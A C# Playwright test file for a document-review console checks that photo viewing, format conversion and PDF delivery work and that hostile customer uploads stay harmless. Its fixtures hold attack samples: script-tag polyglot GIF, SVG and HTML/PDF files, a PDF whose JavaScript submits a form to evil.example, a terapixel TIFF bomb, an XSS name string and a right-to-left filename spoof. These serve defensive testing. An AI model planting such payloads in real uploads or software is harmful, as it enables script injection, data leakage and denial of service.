using System.Text.RegularExpressions;
using AnchorCallbacks.Operators;
using AnchorCallbacks.Tests.Operators;
using static Microsoft.Playwright.Assertions;

namespace AnchorCallbacks.Tests.ReviewConsole.Chromium;

/// <summary>Documents on the customer's page. They come from strangers.</summary>
[InBrowser]
sealed class ViewerTests
{
    const string Script = "<script>document.title='owned';alert(1)</script>";

    [Test]
    public async Task A_photo_is_zoomed_turned_and_compared_without_scripts()
    {
        await using var stage = await ConsoleStage.Start();
        await using var officer = await Officer.SignIn(stage.Server, OperatorRole.Reviewer, scripts: false);
        await officer.ShowValues(stage.Customer);
        var photo = officer.Page.Locator(".photo").First;
        var image = photo.Locator("img");
        var before = (await image.BoundingBoxAsync())!;

        await photo.Locator("[value=zoom-2]").CheckAsync();
        await photo.Locator("[value=turn-90]").CheckAsync();

        Assert.That((await image.BoundingBoxAsync())!.Width, Is.EqualTo(2 * before.Width).Within(2));
        Assert.That(await image.EvaluateAsync<string>("img => getComputedStyle(img).transform"), Does.StartWith("matrix(0, 1, -1, 0"));
        await officer.Page.CheckAsync("#compare");
        var tops = new List<double>();
        foreach (var other in await officer.Page.Locator("section:has(#group-identity) .photo").AllAsync())
            tops.Add((await other.BoundingBoxAsync())!.Y);
        Assert.That(tops.Distinct().Count(), Is.EqualTo(1), "front, back and liveness are in one row");
    }

    [TestCase("heic")]
    [TestCase("tiff")]
    public async Task A_picture_that_browsers_do_not_show_is_converted(string format)
    {
        var file = format == "tiff" ? Tiff()
            : await File.ReadAllBytesAsync(Path.Combine(AppContext.BaseDirectory, "ReviewConsole", "Pictures", $"sample.{format}"));
        await using var stage = await ConsoleStage.Start();
        var (_, customer) = await stage.PutCustomer("Eva", "Prueba", ("photo_id_front", file));
        await using var officer = await Officer.SignIn(stage.Server, OperatorRole.Reviewer);

        await officer.ShowValues(customer);

        var size =
            await officer.Page.Locator(".photo img").EvaluateAsync<int[]>(
            "async img => { await img.decode(); return [img.naturalWidth, img.naturalHeight]; }");
        Assert.That(size, Is.EqualTo((int[])[320, 200]));
        var audit = (await stage.Server.Look($"/customers/{customer}/audit")).Items("audit").Select(line =>
            $"{line.GetProperty("detail")}");
        Assert.That(audit, Has.Some.StartsWith("photo_id_front document="), "the look is in the audit log");
    }

    static byte[] Tiff()
    {
        using var picture = new ImageMagick.MagickImage(ImageMagick.MagickColors.SteelBlue, 320, 200);
        return picture.ToByteArray(ImageMagick.MagickFormat.Tiff);
    }

    [Test]
    public async Task A_PDF_opens_in_the_browsers_viewer_and_nowhere_else()
    {
        await using var stage = await ConsoleStage.Start();
        await using var officer = await Officer.SignIn(stage.Server, OperatorRole.Reviewer);
        await officer.ShowValues(stage.Customer);
        var frame = officer.Page.Locator("iframe");
        var path = await frame.GetAttributeAsync("src");
        var loaded = officer.Page.WaitForResponseAsync(response => response.Url.EndsWith(path!, StringComparison.Ordinal));

        await officer.Page.ClickAsync("summary:has-text('PDF')");

        var headers = await (await loaded).AllHeadersAsync();
        Assert.That((headers["content-type"], headers["x-content-type-options"], headers["cache-control"]),
            Is.EqualTo(("application/pdf", "nosniff", "no-store")));
        Assert.That(headers["content-security-policy"], Is.EqualTo("default-src 'none'; frame-ancestors 'self'; sandbox allow-scripts"));
        await Expect(frame).ToBeVisibleAsync();
    }

    static IEnumerable<TestCaseData> Hostile()
    {
        var gif = "GIF89a/*"u8.ToArray();
        yield return new TestCaseData(gif.Concat(System.Text.Encoding.ASCII.GetBytes($"*/=1;{Script}")).ToArray()).SetArgDisplayNames(
            "GIF with HTML");
        yield return new TestCaseData(Papers.Pdf("x",
            $"/OpenAction << /S /JavaScript /JS (app.alert\\('owned'\\); this.submitForm\\('https://evil.example'\\)) >>"))
            .SetArgDisplayNames("PDF with script");
        yield return new TestCaseData(System.Text.Encoding.ASCII.GetBytes($"<html>{Script}<!-- ").Concat(Papers.Pdf("x")).ToArray())
            .SetArgDisplayNames("HTML that is a PDF");
        yield return new TestCaseData(System.Text.Encoding.ASCII.GetBytes(
            $"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><!-- %PDF-1.4 -->{Script}</svg>"))
            .SetArgDisplayNames("SVG that is a PDF");
        yield return new TestCaseData((byte[])[0x49, 0x49, 0x2A, 0x00, .. HugeTiff()]).SetArgDisplayNames("TIFF of a terapixel");
    }

    /// <summary>The header says 1,000,000 by 1,000,000 pixels.</summary>
    static byte[] HugeTiff()
    {
        (ushort Tag, ushort Kind, uint Count, uint Value)[] entries =
        [
            (256, 4, 1, 1_000_000), (257, 4, 1, 1_000_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200),
                (277, 3, 1, 1),
            (278, 4, 1, 1_000_000), (279, 4, 1, 4),
        ];
        using var bytes = new MemoryStream();
        using var writer = new BinaryWriter(bytes);
        writer.Write(8u);
        writer.Write((ushort)entries.Length);
        foreach (var (tag, kind, count, value) in entries)
        {
            writer.Write(tag);
            writer.Write(kind);
            writer.Write(count);
            writer.Write(value);
        }
        writer.Write(0u);
        writer.Write(new byte[200]);
        return bytes.ToArray();
    }

    [TestCaseSource(nameof(Hostile))]
    public async Task A_hostile_document_stays_harmless(byte[] document)
    {
        await using var stage = await ConsoleStage.Start();
        var (_, customer) = await stage.PutCustomer("Eva", "Prueba", ("photo_id_front", document));
        await using var officer = await Officer.SignIn(stage.Server, OperatorRole.Reviewer);

        await officer.ShowValues(customer);
        if (await officer.Page.Locator("summary:has-text('PDF')").CountAsync() > 0)
        {
            var shown = officer.Page.WaitForResponseAsync(response => response.Url.EndsWith("/pages", StringComparison.Ordinal));
            await officer.Page.ClickAsync("summary:has-text('PDF')");
            await (await shown).FinishedAsync();
        }
        var path = await officer.Page.Locator("td a[target=_blank]").GetAttributeAsync("href");
        var response = await officer.Context.APIRequest.GetAsync(path!);

        Assert.That(response.Headers["x-content-type-options"], Is.EqualTo("nosniff"));
        Assert.That(response.Headers["content-type"],
            Is.EqualTo("application/pdf").Or.StartsWith("image/").Or.EqualTo("application/octet-stream"));
        await Expect(officer.Page).ToHaveTitleAsync(new Regex("^Customer"));
        Assert.That((await officer.Open("/console/status"))!.Status, Is.EqualTo(200), "the server goes on");
    }

    [Test]
    public async Task Hostile_text_stays_text()
    {
        const string Reversed = "Ana\u202Etxt.exe";
        await using var stage = await ConsoleStage.Start();
        var (_, customer) = await stage.PutCustomer(Reversed, "\"><img src=x onerror=alert(1)>" + Script);
        await using var officer = await Officer.SignIn(stage.Server, OperatorRole.Reviewer);

        await officer.ShowValues(customer);

        await officer.Sees("main").ToContainTextAsync("<script>");
        Assert.That(await officer.Page.Locator("img[src=x]").CountAsync(), Is.Zero);
        Assert.That((await officer.Text()).Contains('\u202E', StringComparison.Ordinal), Is.False);
        await officer.AssertFits("hostile text");
    }
}
